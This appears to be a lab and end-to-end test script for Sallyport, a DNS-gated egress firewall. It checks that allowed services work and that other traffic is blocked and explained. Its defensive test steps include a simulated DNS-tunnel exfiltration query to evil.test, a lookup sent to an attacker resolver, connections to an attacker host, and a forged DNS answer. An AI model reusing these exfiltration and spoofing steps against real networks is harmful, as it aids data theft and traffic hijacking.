"""The lab: a small company with Sallyport as gateway and only resolver, told step by step.

usage: lab.py [--stay]
Hosts are network namespaces; every client and server is a real one. Each step shows a command and
its real output, and whether it went as told; the exit status is 1 if any did not. --stay keeps all
of it running afterwards, with the commands to play with.

    app 10.1.0.2, fd00:1::2 --.                      .-- corp 10.2.0.2 db, .3 log, .53 its DNS
    build 10.9.0.5 -----------+-- gw (Sallyport) ----+
    stranger 10.66.0.7 ------'                       '-- net 44.128.0.53 DNS, .10 updates, .20 CDN,
                                                             .66 the attacker's
The DNS outside is signed by knotd, from a root of the lab's own down; what stands before it can lie.
"""
import os, re, shutil, socket, subprocess, sys, time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "e2e"))
import harness as h
import signed

STAY = "--stay" in sys.argv
h.enter(os.path.abspath(__file__), seconds=86400 if STAY else 300, interactive=STAY)

POLICY = """\
version: 1
profiles:
  base:
    allow:
      - {name: log.corp.test, internal: true, ports: [udp/514], owner: platform, reason: logging service}
  app-server:
    extends: [base]
    pinhole: {floor: 2s, grace: 2s}
    allow:
      - name: db.corp.test
        internal: true
        ports: [tcp/5432]
        owner: payments
        reason: primary database
      - name: "**.updates.test"
        owner: platform
        reason: security updates
    deny:
      - zone: evil.updates.test
        reason: incident 4711
  build-farm:
    allow:
      - zone: partner.test
      - zone: shop.test
    deny:
      - zone: tracker.test
workloads:
  app01: {source: [10.1.0.2, "fd00:1::2"], profile: app-server}
  build: {source: 10.9.0.0/24, profile: build-farm}
"""

CONFIG = """\
listen:
  - {address: 10.1.0.1, port: 53}
  - {address: "fd00:1::1", port: 53}
  - {address: 10.9.0.1, port: 53}
  - {address: 10.66.0.1, port: 53}
upstreams:
  - zone: "."
    servers: [{address: 44.128.0.53, port: 53}]
  - zone: corp.test
    internal: true
    dnssec: off
    servers: [{address: 10.2.0.53}]
dnssec:
  mode: validate
  trust_anchors: [ANCHOR]
firewall:
  guard: {interfaces: [to-app, to-build, to-stranger]}
"""

# Zone -> (records, key policy or None): cdn.test and below are delegations without DS.
ZONES = {
    "": ("test NS ns.test.\n", "ecdsa"),
    "test": ("ns A 44.128.0.54\n" + "".join(f"{z} NS ns\n" for z in ("updates", "partner", "cdn", "shop", "tracker", "evil")),
             "ecdsa"),
    "updates.test": ("@ A 44.128.0.10\nrepo 3 A 44.128.0.10\nevil A 44.128.0.66\nt TXT \"tunnel\"\n", "ecdsa"),
    "partner.test": ("@ A 44.128.0.20\nwww CNAME edge.cdn.test.\n", "ecdsa"),
    "cdn.test": ("edge A 44.128.0.20\n", None),
    "shop.test": ("@ A 44.128.0.20\nstats CNAME pixel.tracker.test.\n", None),
    "tracker.test": ("pixel A 44.128.0.66\n", None),
    "evil.test": ("@ A 44.128.0.66\n*.tunnel TXT \"commands from the attacker\"\n", None),
}
CORP_ZONES = {"corp.test": "db A 10.2.0.2\nlog A 10.2.0.3\n"}

passed = failed = 0


def knot(ns, address, zones):
    """A real authoritative server: knotd."""
    folder = h.work("knot-" + ns)
    os.makedirs(folder)
    conf = f"server:\n  rundir: {folder}\n  listen: {address}@53\ndatabase:\n  storage: {folder}\n"
    conf += "log:\n  - target: stderr\n    any: warning\nzone:\n"
    for zone, text in zones.items():
        with open(f"{folder}/{zone}", "w") as f:
            f.write(f"$ORIGIN {zone}.\n$TTL 60\n@ SOA ns h 1 3600 900 604800 60\n@ NS ns\nns A {address}\n{text}")
        conf += f"  - domain: {zone}\n    file: {folder}/{zone}\n    zonefile-sync: -1\n    journal-content: none\n"
    with open(f"{folder}/knot.conf", "w") as f:
        f.write(conf)
    h.start(["knotd", "-c", f"{folder}/knot.conf"], ns=ns, log=f"{folder}/log")

    def answers():
        with h.inside(ns):
            return h.ask(address, next(iter(zones)), "SOA", timeout=0.3)
    h.until(f"knotd answers on {address}", answers, 30)


def serve(ns, *args, log=None):
    h.start(["/usr/bin/python3", os.path.join(h.ROOT, "tests/lab/services.py"), *args], ns=ns,
            log=log or h.work("services.log"))


def certificate():
    """A certificate authority of the lab's own, and a certificate for its web servers."""
    d = h.work("tls")
    os.makedirs(d)
    with open(f"{d}/ext", "w") as f:
        f.write("subjectAltName=DNS:repo.updates.test,DNS:www.partner.test\n")
    for cmd in (f"req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout {d}/ca.key -out {d}/ca.pem -days 30 -subj /CN=lab",
                f"req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout {d}/key.pem -out {d}/csr.pem -subj /CN=repo.updates.test",
                f"x509 -req -in {d}/csr.pem -CA {d}/ca.pem -CAkey {d}/ca.key -CAcreateserial -days 30 -extfile {d}/ext -out {d}/cert.pem"):
        h.run(["openssl", *cmd.split()])
    return d


def build():
    for name in ("gw", "app", "build", "stranger", "corp", "net"):
        h.host(name)
    h.wire("gw", ["10.1.0.1/24", "fd00:1::1/64"], "app", ["10.1.0.2/24", "fd00:1::2/64"])
    h.wire("gw", ["10.9.0.1/24"], "build", ["10.9.0.5/24"])
    h.wire("gw", ["10.66.0.1/24"], "stranger", ["10.66.0.7/24"])
    h.wire("gw", ["10.2.0.1/24"], "corp", ["10.2.0.2/24", "10.2.0.3/24", "10.2.0.53/24"])
    h.wire("gw", ["44.128.0.1/24"], "net", [f"44.128.0.{n}/24" for n in (53, 54, 10, 20, 66)])
    for ns, via in (("app", "10.1.0.1"), ("build", "10.9.0.1"), ("stranger", "10.66.0.1"),
                    ("corp", "10.2.0.1"), ("net", "44.128.0.1")):
        h.route(ns, "default", via)
    h.forwarding("gw")
    for ns, address in (("app", "10.1.0.1"), ("build", "10.9.0.1"), ("stranger", "10.66.0.1")):
        h.resolver(ns, address)
    tree = signed.Tree(ZONES)
    serve("net", "dns_before", "44.128.0.53", "53", tree.address, h.work("lie"))
    knot("corp", "10.2.0.53", CORP_ZONES)
    tls = certificate()
    serve("net", "https", "44.128.0.10", "443", tls)
    serve("net", "https", "44.128.0.20", "443", tls)
    serve("net", "tcp", "44.128.0.66", "443")
    serve("net", "tcp", "44.128.0.66", "4444")
    serve("net", "tcp", "44.128.0.10", "8080")
    serve("net", "resolver", "44.128.0.66", "53")
    serve("corp", "tcp", "10.2.0.2", "5432")
    serve("corp", "tcp", "10.2.0.2", "22")
    serve("corp", "syslog", "10.2.0.3", "514", log=h.work("syslog.log"))
    serve("gw", "tcp", "10.1.0.1", "22")
    for ns, address, port in (("net", "44.128.0.10", 443), ("net", "44.128.0.20", 443),
                              ("net", "44.128.0.66", 4444), ("corp", "10.2.0.2", 5432),
                              ("gw", "10.1.0.1", 22), ("net", "44.128.0.10", 8080)):
        h.until(f"{address}:{port} listens", lambda: connects(ns, address, port))
    return tls, tree


def forge(name, address):
    """From now on the upstream tells that address for the name; without one the truth."""
    with open(h.work("new"), "w") as f:
        f.write(f"{name} {address}" if address else "")
    os.replace(h.work("new"), h.work("lie"))


def anchors_of_delv(tree):
    """The lab's root key as BIND's tools want it."""
    ds = next(l.split() for l in open(tree.anchor) if " 13 2 " in l)
    with open(h.work("delv.keys"), "w") as f:
        f.write(f'trust-anchors {{ . static-ds {" ".join(ds[2:5])} "{ds[5]}"; }};\n')
    return h.work("delv.keys")


def connects(ns, address, port):
    with h.inside(ns):
        s = socket.socket()
    s.settimeout(1)
    try:
        s.connect((address, port))
        return True
    except OSError:
        return False
    finally:
        s.close()


def say(text):
    print(f"\n\033[1m{text}\033[0m" if sys.stdout.isatty() else f"\n## {text}", flush=True)


def step(title, ns, command, good, want_exit=None):
    """Run a shell command on a host, show it and its output; `good` is a regular expression that the
    output has to match, or a function of (exit status, output)."""
    global passed, failed
    p = h.run(["sh", "-c", command], ns=ns, check=False, timeout=20)
    out = (p.stdout + p.stderr).strip()
    ok = good(p.returncode, out) if callable(good) else re.search(good, out, re.M) is not None
    if want_exit is not None:
        ok = ok and p.returncode == want_exit
    print(f"\n{ns}$ {command.replace(h.os.environ['SALLYPORT_WORK'], '$LAB').replace(h.BIN + '/', '')}")
    for line in out.splitlines()[:30]:
        print("    " + line)
    print(f"  {'ok' if ok else 'NOT AS TOLD'}: {title}", flush=True)
    if ok:
        passed += 1
    else:
        failed += 1
        print(f"not ok {title} (exit {p.returncode})")


def fails(code, _out):
    return code != 0


def story(sp, tls, tree):
    curl = f"curl -sS --max-time 4 --cacert {tls}/ca.pem"
    tcp = f"/usr/bin/python3 {h.ROOT}/tests/lab/services.py connect"
    sally = f"{h.BIN}/sallyport -c {sp.conf}"

    say("The app server reaches what it needs")
    step("the update repository answers over HTTPS", "app", f"{curl} https://repo.updates.test/package.txt",
         "a signed package")
    step("the database answers a TCP client", "app", f"{tcp} db.corp.test 5432", "hello from 10.2.0.2:5432")
    step("dig shows the logging service", "app", "dig +noall +answer +comments log.corp.test @10.1.0.1",
         r"log\.corp\.test\..*10\.2\.0\.3")
    step("and a datagram to it arrives", "app",
         f"/usr/bin/python3 {h.ROOT}/tests/lab/services.py send log.corp.test 514 'app01 is well'", "sent", 0)
    h.until("the logging service got it", lambda: "app01 is well" in open(h.work("syslog.log")).read())
    step("IPv6 asks are answered over IPv6, too", "app", "dig +short repo.updates.test @fd00:1::1", r"44\.128\.0\.10")
    step("the build server follows a CDN's CNAME", "build", f"{curl} https://www.partner.test/package.txt",
         "a signed package")

    say("Everything else fails, and says why")
    step("another name", "app", "dig evil.test @10.1.0.1", r"NXDOMAIN(.|\n)*EDE: 15")
    step("a raw address", "app", f"{tcp} 44.128.0.66 443", fails)
    step("a DNS tunnel's TXT", "app", "dig TXT c2VjcmV0.tunnel.evil.test @10.1.0.1", r"NXDOMAIN(.|\n)*EDE: 15")
    step("TXT under an allowed name", "app", "dig TXT t.updates.test @10.1.0.1", r"ANSWER: 0(.|\n)*EDE: 15")
    step("a denied zone inside an allowed one", "app", "dig evil.updates.test @10.1.0.1",
         r"NXDOMAIN(.|\n)*EDE: 15.*evil\.updates\.test")
    step("a CNAME into a denied name", "build", "dig stats.shop.test @10.9.0.1", r"EDE: 15.*tracker\.test")
    step("another port on an allowed host", "app", f"{tcp} repo.updates.test 8080", fails)
    step("ssh to the database host", "app", f"{tcp} db.corp.test 22", fails)
    step("a resolver of its own choice", "app", "dig +time=1 +tries=1 exfil.evil.test @44.128.0.66", fails)
    h.run(["ip", "addr", "add", "10.1.0.77/24", "dev", "to-gw"], ns="app")
    step("an address that it gives itself", "app", f"{tcp} 44.128.0.10 443 10.1.0.77", fails)
    step("that address asking Sallyport", "app", "dig -b 10.1.0.77 repo.updates.test @10.1.0.1",
         r"REFUSED(.|\n)*EDE: 18")
    step("the gateway's own services", "app", f"{tcp} 10.1.0.1 22", fails)
    step("a stranger", "stranger", "dig repo.updates.test @10.66.0.1", r"REFUSED(.|\n)*EDE: 18")
    step("a stranger's raw connection", "stranger", f"{tcp} 44.128.0.10 443", fails)

    say("The upstream lies")
    delv = f"delv -a {anchors_of_delv(tree)} +root=. @10.1.0.1"
    step("dig shows that the answer is authentic", "app", "dig +adflag repo.updates.test @10.1.0.1",
         r"flags:[^;]* ad(.|\n)*44\.128\.0\.10")
    step("the workload's own validator agrees", "app", f"{delv} repo.updates.test A",
         r"; fully validated(.|\n)*44\.128\.0\.10")
    step("and about what nobody has signed", "build", f"{delv.replace('10.1.0.1', '10.9.0.1')} shop.test A",
         r"; unsigned answer(.|\n)*44\.128\.0\.20")
    step("as does dig", "build", "dig +adflag shop.test @10.9.0.1",
         lambda code, out: "NOERROR" in out and "44.128.0.20" in out and not re.search(r"flags:[^;]* ad", out))
    forge("repo.updates.test.", "44.128.0.66")
    sp.cli("flush", "repo.updates.test")
    step("a forged address is refused", "app", "dig repo.updates.test @10.1.0.1",
         r"SERVFAIL(.|\n)*ANSWER: 0(.|\n)*EDE: 6.*the signature does not verify")
    step("nothing is open to it", "gw", "nft list table inet sallyport",
         lambda code, out: code == 0 and "44.128.0.10" in out and "44.128.0.66" not in out)
    step("what was wrong, link by link", "gw", f"{sally} explain app01 repo.updates.test --dnssec",
         r"DNSSEC: bogus(.|\n)*by updates\.test\. key(.|\n)*not verified: the signature does not verify", 1)
    time.sleep(1.2)  # the historian writes once a second
    step("the history has it", "gw", f"{sally} history --name repo.updates.test --reason bogus --last 1",
         r"repo\.updates\.test\..*bogus.*SERVFAIL")
    forge("repo.updates.test.", None)
    sp.cli("flush", "repo.updates.test")
    step("when it tells the truth again, all is well", "app", f"{curl} https://repo.updates.test/package.txt",
         "a signed package")

    say("A pinhole closes by itself")
    step("asked: open", "app", f"{tcp} repo.updates.test 443", "connected")
    step("it is in the list of pinholes", "gw", f"{sally} pinholes --workload app01", r"44\.128\.0\.10.*443.*repo\.updates\.test")
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and connects("app", "44.128.0.10", 443):
        time.sleep(0.5)
    step("after TTL and grace: closed", "app", f"{tcp} 44.128.0.10 443", fails)

    say("The analyst looks")
    time.sleep(1.2)  # the historian writes once a second
    step("what app01 was refused", "gw", f"{sally} history --workload app01 --verdict deny --since 10m", r"evil\.test")
    step("what is denied most", "gw", f"{sally} top denied --since 10m", r"evil")
    step("who was given that address", "gw", f"{sally} who 44.128.0.10", r"app01(.|\n)*repo\.updates\.test|repo\.updates\.test(.|\n)*app01")
    step("why is that denied", "gw", f"{sally} explain app01 evil.updates.test", r"deny(.|\n)*evil\.updates\.test", 1)
    step("why is this allowed", "gw", f"{sally} explain app01 db.corp.test", r"allow(.|\n)*db\.corp\.test", 0)
    step("the system's health", "gw", f"{sally} status", r"resolver(.|\n)*fwsync|fwsync(.|\n)*resolver")


def main():
    print("Building the lab: gateway, app server, build server, stranger, company and outside world.")
    tls, tree = build()
    sp = h.Sallyport("gw", CONFIG.replace("ANCHOR", tree.anchor))
    sp.up()
    say("The policy")
    print("    " + POLICY.replace("\n", "\n    ").rstrip())
    print("\ngw$ sallyport policy apply policy.yaml")
    p = sp.apply(POLICY)
    print("    " + (p.stdout + p.stderr).strip().replace("\n", "\n    "))
    try:
        story(sp, tls, tree)
    except Exception as e:
        global failed
        failed += 1
        print(f"not ok the lab broke off: {e}")
    if failed:
        print("\nThe daemon's log:\n" + sp.logs())
    if STAY:
        # /etc is a private copy here, so the command finds its configuration by itself.
        os.makedirs("/etc/sallyport", exist_ok=True)
        os.replace(shutil.copy(sp.conf, "/etc/sallyport/new.yaml"), "/etc/sallyport/sallyport.yaml")
        print("\nThe lab stays; a shell inside it follows, and leaving that ends the lab. For example:\n"
              "    ip netns exec app dig evil.test\n"
              "    ip netns exec app curl --cacert $LAB/tls/ca.pem https://repo.updates.test/package.txt\n"
              "    sallyport history --follow\n"
              "    sallyport pinholes\n"
              "    ip netns exec gw nft list table inet sallyport\n", flush=True)
        subprocess.call([os.environ.get("SHELL", "/bin/sh")],
                        env=dict(os.environ, PATH=h.BIN + ":" + os.environ["PATH"], LAB=h.work()))
    code = sp.down()
    if code != 0:
        failed += 1
        print(f"not ok sallyportd ended with {code}")
    print(f"\n{passed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


main()
